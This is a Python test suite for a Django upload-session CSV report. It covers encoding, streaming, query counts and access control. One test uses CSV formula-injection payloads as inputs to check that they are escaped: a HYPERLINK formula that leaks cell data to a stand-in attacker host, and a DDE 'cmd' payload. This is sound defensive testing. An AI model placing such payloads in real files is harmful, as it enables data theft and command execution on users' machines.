"""The report of an upload session as a CSV file: one row per file with its name, size, sha256, status, reason and
asset id; opens in a spreadsheet (UTF-8 with a byte order mark); no cell runs as a formula; only those who may see
the session get it; streamed in constant memory."""

import csv
import io
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assets.models import Asset
from tests.helpers import make_asset
from ui.spreadsheets import spreadsheet_safe
from uploads.models import UploadSession

S = Asset.Status
HEADER = ["File name", "Size (bytes)", "SHA-256", "Status", "Reason", "Asset id"]


@pytest.fixture
def url(upload_session):
    return reverse("uploads:report", args=[upload_session.project_id, upload_session.pk])


def _file(session, name, **fields):
    return make_asset(session.project, upload_session=session, name=name, original_filename=name, uploaded_by=session.created_by, **fields)


def _download(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content)
    return response, body


def _rows(body: bytes) -> list[list[str]]:
    # utf-8-sig: what a spreadsheet does with the byte order mark.
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_it_lists_one_row_per_file_in_the_order_they_were_added(manager_client, url, upload_session):
    ready = _file(upload_session, "gate-1.jpg", status=S.READY, size=2048, sha256="a" * 64)
    failed = _file(upload_session, "gate-2.jpg", status=S.UPLOAD_ERROR, size=10, sha256="b" * 64,
                   error_reason="The file's content is a PDF document, not an image, whatever its name says.")
    waiting = _file(upload_session, "gate-3.jpg", status=S.UPLOADING, size=None, sha256="")
    _file(make_session(upload_session), "elsewhere.jpg", status=S.READY)

    _, body = _download(manager_client, url)

    assert _rows(body) == [
        HEADER,
        ["gate-1.jpg", "2048", "a" * 64, "Ready", "", str(ready.pk)],
        ["gate-2.jpg", "10", "b" * 64, "Upload Error", "The file's content is a PDF document, not an image, whatever its name says.", str(failed.pk)],
        ["gate-3.jpg", "", "", "Uploading", "", str(waiting.pk)],
    ]


def make_session(session) -> UploadSession:
    return UploadSession.objects.create(project=session.project, created_by=session.created_by, asset_type=session.asset_type,
                                        source=session.source, view_name="Other", capture_date=session.capture_date)


def test_it_is_a_utf8_csv_download_with_a_byte_order_mark_named_after_the_session(manager_client, url, upload_session):
    _file(upload_session, "café-ß-東京.jpg", status=S.READY)

    response, body = _download(manager_client, url)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="north-gate-camera-2-2026-11-20-report.csv"'
    assert body.startswith(b"\xef\xbb\xbf\"File name\"")
    assert _rows(body)[1][0] == "café-ß-東京.jpg"
    assert body.count(b"\r\n") == 2  # RFC 4180 line ends, one per row


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2.jpg", "-2+3.jpg", "@SUM(A1).jpg", "\t=1.jpg", "\r=1.jpg"])
def test_a_file_name_that_looks_like_a_formula_stays_text(manager_client, url, upload_session, name):
    _file(upload_session, name, status=S.UPLOAD_ERROR, error_reason="=cmd|' /C calc'!A0 The transfer failed.")

    _, body = _download(manager_client, url)

    [row] = _rows(body)[1:]
    assert row[0] == f"'{name}"
    assert row[4] == "'=cmd|' /C calc'!A0 The transfer failed."


def test_ordinary_cells_are_left_as_they_are():
    assert [spreadsheet_safe(v) for v in ("gate 1.jpg", 2048, "", None, "a=b.jpg")] == ["gate 1.jpg", 2048, "", "", "a=b.jpg"]


def test_its_queries_do_not_grow_with_the_files(manager_client, url, upload_session):
    for n in range(3):
        _file(upload_session, f"few-{n}.jpg", status=S.READY)
    with CaptureQueriesContext(connection) as few:
        _download(manager_client, url)
    for n in range(60):
        _file(upload_session, f"many-{n}.jpg", status=S.READY)
    with CaptureQueriesContext(connection) as many:
        _, body = _download(manager_client, url)

    assert len(_rows(body)) == 64
    assert len(many) == len(few)


def test_the_uploader_who_opened_the_session_gets_it(member_client, url, upload_session):
    _file(upload_session, "mine.jpg", status=S.READY)
    _, body = _download(member_client, url)
    assert _rows(body)[1][0] == "mine.jpg"


@pytest.mark.parametrize("who", ["viewer_client", "outsider_client"])
def test_people_who_may_not_see_the_session_get_404(request, url, upload_session, who):
    _file(upload_session, "secret.jpg", status=S.READY)
    assert request.getfixturevalue(who).get(url).status_code == 404


def test_another_uploaders_session_answers_404(request, upload_session, organization):
    from tests.conftest import _client_for, _user
    from projects.models import Membership

    other = _user("carol")
    Membership.objects.create(organization=organization, user=other, role=Membership.Role.UPLOADER)
    url = reverse("uploads:report", args=[upload_session.project_id, upload_session.pk])
    assert _client_for(other).get(url).status_code == 404


def test_a_session_named_under_another_project_answers_404(manager_client, upload_session, other_project):
    assert manager_client.get(reverse("uploads:report", args=[other_project.pk, upload_session.pk])).status_code == 404
    assert manager_client.get(reverse("uploads:report", args=[upload_session.project_id, uuid.uuid4()])).status_code == 404


def test_the_session_page_and_the_uploads_tab_link_the_report(manager_client, url, upload_session):
    assert url in manager_client.get(reverse("uploads:detail", args=[upload_session.project_id, upload_session.pk])).content.decode()
    assert url in manager_client.get(reverse("uploads:list", args=[upload_session.project_id])).content.decode()
